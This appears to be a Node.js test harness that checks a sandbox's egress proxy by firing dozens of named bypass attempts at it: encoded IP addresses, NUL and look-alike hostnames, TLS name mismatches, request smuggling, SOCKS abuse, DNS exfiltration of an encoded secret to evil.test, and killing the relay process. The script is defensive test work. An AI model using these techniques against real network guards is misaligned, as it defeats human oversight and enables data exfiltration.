// What a hostile command tries with the network it was left, each attack by its name. Run inside a guard; prints one
// JSON object with what came of each. It uses nothing but Node.
import { execFileSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { lookup } from "node:dns/promises";
import { readdirSync, readFileSync, readlinkSync } from "node:fs";
import { connect, createServer } from "node:net";
import { networkInterfaces } from "node:os";
import { connect as connectTls } from "node:tls";

const PROXY = { host: "127.0.0.1", port: 3128 };
const [given = "{}", ...only] = process.argv.slice(2);
const { other, abstract, path } = JSON.parse(given);

/** Everything a socket says until it ends; the code of an error in its place. */
const hear = (socket, ms = 4000) =>
  new Promise((done) => {
    const parts = [];
    const end = (said) => {
      clearTimeout(timer);
      socket.destroy();
      done(said ?? Buffer.concat(parts).toString("latin1"));
    };
    const timer = setTimeout(() => end("silence"), ms);
    socket.on("data", (part) => parts.push(part));
    socket.on("error", (error) => end(error.code));
    socket.on("close", () => end());
  });
const say = (bytes, ms) => {
  const socket = connect(PROXY);
  socket.write(bytes);
  return hear(socket, ms);
};
const status = (text) => /^HTTP\/1\.1 ([0-9]{3})/.exec(text)?.[1] ?? text;
const ask = async (authority) => status(await say(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`));
const get = (target, headers = "", host = "good.test") =>
  say(`GET ${target} HTTP/1.1\r\nHost: ${host}\r\n${headers}Connection: close\r\n\r\n`);

/** Opens a tunnel, then speaks. */
const tunnel = (authority) =>
  new Promise((done, fail) => {
    const socket = connect(PROXY);
    socket.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`);
    socket.once("data", (part) =>
      part.toString().startsWith("HTTP/1.1 200") ? done(socket) : fail(new Error(status(part.toString()))),
    );
    socket.once("error", fail);
  });
const overTls = async (socket, servername, request = "GET /in HTTP/1.0\r\n\r\n") => {
  const tls = connectTls({ socket, servername, rejectUnauthorized: false });
  tls.on("error", () => undefined);
  const heard = hear(tls);
  tls.write(request);
  return status(await heard) || "closed";
};
const inTunnel = async (authority, bytes) => {
  const socket = await tunnel(authority);
  const heard = hear(socket, 8000);
  socket.write(bytes);
  return (await heard) || "closed";
};
const socks = async (request, greeting = [5, 1, 0]) => {
  const socket = connect(PROXY);
  socket.write(Buffer.from(greeting));
  const heard = hear(socket);
  socket.write(Buffer.from(request));
  const answer = Buffer.from(await heard, "latin1");
  return [...answer.subarray(2, 4)].join(",");
};
const socksName = (name, port = 443) => {
  const bytes = Buffer.from(name, "latin1");
  return socks([5, 1, 0, 3, bytes.length, ...bytes, port >> 8, port & 255]);
};
const direct = (host, port) => hear(connect({ host, port }), 2000);
const find = (name) =>
  lookup(name).then(
    ({ address }) => address,
    (error) => error.code,
  );
const udp = (host, port, bytes) =>
  new Promise((done) => {
    const socket = createSocket(host.includes(":") ? "udp6" : "udp4");
    const end = (said) => {
      socket.close();
      done(said);
    };
    socket.on("error", (error) => end(error.code));
    socket.send(bytes, port, host, (error) => (error ? end(error.code) : setTimeout(() => end("silence"), 300)));
  });
const perl = (text) => execFileSync("/usr/bin/perl", ["-e", text], { encoding: "utf8" });
const attempt = (work) => {
  try {
    return work();
  } catch (error) {
    return error.code ?? "failed";
  }
};
/** A greeting of TLS by hand: one name, cut into records of a size. */
const greeting = (names, size = 16_384) => {
  const u16 = (n) => [n >> 8, n & 255];
  const list = names.flatMap((name) => [0, ...u16(name.length), ...Buffer.from(name, "latin1")]);
  const sni = names.length === 0 ? [] : [0, 0, ...u16(list.length + 2), ...u16(list.length), ...list];
  const body = [3, 3, ...new Array(32).fill(7), 0, 0, 2, 0x13, 0x01, 1, 0, ...u16(sni.length), ...sni];
  const hello = [1, 0, ...u16(body.length), ...body];
  const out = [];
  for (let at = 0; at < hello.length; at += size) {
    const part = hello.slice(at, at + size);
    out.push(22, 3, 1, ...u16(part.length), ...part);
  }
  return Buffer.from(out);
};

/** Only when they are asked for. */
const SLOW = ["half a greeting, then nothing", "the relay, ended"];

const ATTACKS = {
  "an allowed host through the proxy": async () => overTls(await tunnel("good.test:443"), "good.test"),
  "an allowed host by name, without a proxy": async () =>
    overTls(connect({ host: "good.test", port: 443 }), "good.test"),
  "an allowed host in upper case with a final dot": async () => overTls(await tunnel("GOOD.test.:443"), "good.test"),
  "an allowed host by SOCKS": async () => {
    const socket = connect(PROXY);
    socket.write(Buffer.from([5, 1, 0]));
    await new Promise((done) => socket.once("data", done));
    socket.write(Buffer.from([5, 1, 0, 3, 9, ...Buffer.from("good.test"), 443 >> 8, 443 & 255]));
    await new Promise((done) => socket.once("data", done));
    return overTls(socket, "good.test");
  },
  "an allowed host over plain HTTP": async () => status(await get("http://good.test/plain")),
  "a greeting in records of seven bytes": async () =>
    (await inTunnel("good.test:443", greeting(["good.test"], 7))) !== "closed",

  "a dotted address": () => ask(`${other}:443`),
  "a decimal address": () => ask("2130706433:443"),
  "a hexadecimal address": () => ask("0x7f000001:443"),
  "an octal address": () => ask("0177.0.0.1:443"),
  "a short address": () => ask("127.1:443"),
  "a bracketed address": () => ask("[::1]:443"),
  "a mapped address": () => ask("[::ffff:127.0.0.1]:443"),
  "an address with a final dot": () => ask("127.0.0.1.:443"),
  "an address as a SOCKS name": () => socksName("127.0.0.1"),
  "a SOCKS address": () => socks([5, 1, 0, 1, 127, 0, 0, 1, 1, 187]),
  "a SOCKS address of the newer kind": () => socks([5, 1, 0, 4, ...new Array(15).fill(0), 1, 1, 187]),
  "a link-local address with a zone": () => ask("[fe80::1%25eth0]:443"),

  "NUL in a name": () => socksName("good.test\0.evil.test"),
  "NUL behind an allowed name": () => socksName("evil.test\0good.test"),
  "a percent sign in a name": () => ask("good.test%00.evil.test:443"),
  "full-width letters in a name": () => socksName(Buffer.from("ｇood.test").toString("latin1")),
  "a hash in a name": () => ask("evil.test#good.test:443"),
  "a star as a name": () => ask("*:443"),
  "a star in a name": () => ask("*.good.test:443"),
  "a second final dot": () => ask("good.test..:443"),
  "an empty label": () => ask("good..test:443"),
  "userinfo in CONNECT": () => ask("good.test@evil.test:443"),
  "userinfo in a target": async () => status(await get("http://good.test:80@evil.test/")),
  "a backslash in a target": async () => status(await get("http://evil.test\\@good.test/")),
  "a name in another script by its ASCII form": () => ask("xn--gd-fka.test:443"),

  "an unlisted host": () => ask("evil.test:443"),
  "an unlisted host over plain HTTP": async () => status(await get("http://evil.test/", "", "evil.test")),
  "an unlisted host by SOCKS": () => socksName("evil.test"),
  "an unlisted host behind an allowed Host": async () =>
    status(await say("CONNECT evil.test:443 HTTP/1.1\r\nHost: good.test:443\r\n\r\n")),
  "an unlisted host through a proxy of its own": async () => {
    const server = createServer((socket) => socket.pipe(connect(PROXY)).pipe(socket));
    await new Promise((done) => server.listen(0, "127.0.0.1", done));
    const socket = connect(server.address());
    socket.write("CONNECT passed-on.test:443 HTTP/1.1\r\nHost: passed-on.test\r\n\r\n");
    const heard = status(await hear(socket));
    server.close();
    return heard;
  },
  "HTTP of the second version": async () => status(await say("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")),
  "a look-alike with the name as its prefix": () => ask("good.test.evil.test:443"),
  "a look-alike with the name as its suffix": () => ask("evilgood.test:443"),
  "the apex of a wildcard": () => ask("wild.test:443"),
  "a look-alike of a wildcard": () => ask("notwild.test:443"),
  "another port of an allowed host": () => ask("good.test:8443"),
  "a port out of range": () => ask("good.test:65979"),
  "the proxy itself": () => ask("localhost:3128"),
  "the proxy itself by its address": () => ask("127.0.0.1:3128"),
  "an allowed name that resolves to loopback": () => ask("loop.test:443"),
  "two private addresses as an answer": () => ask("metadata.test:443"),
  "a mapped address as an answer": () => ask("mapped.test:443"),
  "an allowed name that does not resolve": () => ask("nowhere.test:443"),

  "another TLS name than CONNECT": async () => overTls(await tunnel("good.test:443"), "evil.test"),
  "another TLS name by name": async () => overTls(connect({ host: "good.test", port: 443 }), "evil.test"),
  "no TLS name": async () => overTls(await tunnel("good.test:443"), ""),
  "no TLS": () => inTunnel("good.test:443", "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
  "two TLS names": () => inTunnel("good.test:443", greeting(["good.test", "evil.test"])),
  "a TLS name with a look-alike in small records": () =>
    inTunnel("good.test:443", greeting(["good.test.evil.test"], 3)),
  "a TLS name that ends with NUL": () => inTunnel("good.test:443", greeting(["good.test\0"])),
  "half a greeting, then nothing": () => inTunnel("good.test:443", greeting(["good.test"]).subarray(0, 20)),
  "TLS to the proxy": async () => status(await say(greeting(["good.test"]))),
  "a request for https through the proxy": async () => status(await get("https://good.test/")),
  "plain HTTP on port 443": async () => status(await get("http://good.test:443/")),

  "Host against the request line": async () =>
    /"host":"([^"]*)"/.exec(await get("http://good.test/", "", "evil.test"))?.[1],
  "two Host headers": async () =>
    /"hosts":(\[[^\]]*\])/.exec(await get("http://good.test/", "Host: evil.test\r\n"))?.[1] ?? "refused",
  "a redirect to an unlisted host": async () => {
    const [, location] = /location: (\S+)/i.exec(await get("http://good.test/redirect")) ?? [];
    return `${location} ${status(await get(location))}`;
  },
  "a second host on a kept-alive connection": async () => {
    const first = "GET http://good.test/1 HTTP/1.1\r\nHost: good.test\r\n\r\n";
    const second = "GET http://evil.test/2 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n";
    const socket = connect(PROXY);
    socket.write(first);
    const heard = hear(socket);
    await new Promise((done) => socket.once("data", done));
    socket.write(second);
    return [...(await heard).matchAll(/HTTP\/1\.1 ([0-9]{3})/g)].map(([, code]) => code).join(" ");
  },
  "a second host pipelined behind the first": async () => {
    const heard = await say(
      "GET http://good.test/1 HTTP/1.1\r\nHost: good.test\r\n\r\nGET http://evil.test/2 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n",
    );
    return heard.includes("evil") && !heard.includes("did not connect") ? "reached" : "not reached";
  },
  "a request smuggled behind two lengths": async () =>
    status(
      await say(
        "POST http://good.test/ HTTP/1.1\r\nHost: good.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\n\r\n",
      ),
    ),
  "a bare path to the proxy": async () => status(await get("/")),
  "a request that is not HTTP": async () => status(await say("\x01\x02\x03\r\n\r\n")),
  "SOCKS of the older kind": async () =>
    status(await say(Buffer.from([4, 1, 1, 187, 0, 0, 0, 1, 0, ...Buffer.from("evil.test"), 0]))),
  "SOCKS UDP": () => socks([5, 3, 0, 1, 0, 0, 0, 0, 0, 0]),
  "SOCKS BIND": () => socks([5, 2, 0, 3, 9, ...Buffer.from("good.test"), 1, 187]),
  "SOCKS with a password only": async () => (await say(Buffer.from([5, 1, 2]))).charCodeAt(1),

  "proxy variables cleared": async () =>
    attempt(() =>
      execFileSync(
        process.execPath,
        ["-e", "fetch('http://evil.test').then(() => console.log('reached'), () => console.log('refused'))"],
        { env: {}, encoding: "utf8" },
      ).trim(),
    ),
  "NO_PROXY=*": async () =>
    attempt(() =>
      execFileSync(
        process.execPath,
        ["-e", `fetch('http://${other}').then(() => console.log('reached'), () => console.log('refused'))`],
        { env: { NO_PROXY: "*" }, encoding: "utf8" },
      ).trim() === "reached"
        ? "reached"
        : "not reached",
    ),
  "an address of the machine, directly": async () => (await direct(other, 443)) || "closed",
  "a public address, directly": () => direct("192.0.2.1", 443),
  "raw IPv6": () => direct("2001:db8::1", 443),
  "UDP to a resolver": () => udp("192.0.2.53", 53, "x"),
  "a name that is not listed": () => find("evil.test"),
  "data in a queried name": () => find("c2VjcmV0LWtleQ.evil.test"),
  "an address of a listed name that has none": async () => (await direct("127.64.200.200", 443)) || "closed",
  AF_VSOCK: () => perl('print socket(my $s, 40, 1, 0) ? "made" : "refused"'),
  AF_PACKET: () => perl('print socket(my $s, 17, 3, 0) ? "made" : "refused"'),
  AF_ALG: () => perl('print socket(my $s, 38, 5, 0) ? "made" : "refused"'),
  AF_BLUETOOTH: () => perl('print socket(my $s, 31, 3, 0) ? "made" : "refused"'),
  io_uring: () => perl(`my $p = "\\0" x 120; print syscall(425, 8, $p) < 0 && $!{ENOSYS} ? "absent" : "there"`),
  "calls of another architecture": () =>
    perl(process.arch === "x64" ? 'print syscall(0x40000029, 40, 1, 0) < 0 ? "refused" : "made"' : 'print "refused"'),
  "an abstract socket of the machine": () => hear(connect({ path: `\0${abstract}` }), 2000),
  "the way out, by its path": () => hear(connect({ path }), 2000),
  "the relay, looked into": () => {
    const seen = readdirSync("/proc").filter(
      (name) => /^[0-9]+$/.test(name) && attempt(() => readFileSync(`/proc/${name}/comm`, "latin1")) === "relay\n",
    );
    const open = seen.filter((pid) => {
      const descriptors = attempt(() => readdirSync(`/proc/${pid}/fd`));
      const links = Array.isArray(descriptors) ? descriptors : [];
      const isRead = (place) =>
        attempt(() => readlinkSync(place)).startsWith("/") ||
        attempt(() => readdirSync(`${place}/`)).includes("net.sock");
      return ["cwd", "root", ...links.map((one) => `fd/${one}`)].some((one) => isRead(`/proc/${pid}/${one}`));
    });
    if (seen.length === 0) return "not found";
    return open.length === 0 ? "closed" : "open";
  },
  interfaces: () => Object.keys(networkInterfaces()).join(","),
  "a server of its own": () =>
    new Promise((done) => {
      const server = createServer((socket) => socket.end("own"));
      server.listen(0, "0.0.0.0", async () => {
        done(await direct("127.0.0.1", server.address().port));
        server.close();
      });
    }),
  "the relay, ended": async () => {
    for (const pid of readdirSync("/proc").filter((name) => /^[0-9]+$/.test(name))) {
      if (attempt(() => readFileSync(`/proc/${pid}/comm`, "latin1")) === "relay\n")
        attempt(() => process.kill(Number(pid), "SIGKILL"));
    }
    await new Promise((done) => setTimeout(done, 400));
    return direct(PROXY.host, PROXY.port);
  },
};

const chosen = Object.entries(ATTACKS).filter(([name]) =>
  only.length > 0 ? only.includes(name) : !SLOW.includes(name),
);
const results = await Promise.all(
  chosen.map(async ([name, attack]) => {
    try {
      return [name, await attack()];
    } catch (error) {
      return [name, error.message];
    }
  }),
);
process.stdout.write(`${JSON.stringify(Object.fromEntries(results))}\n`, () => process.exit(0));
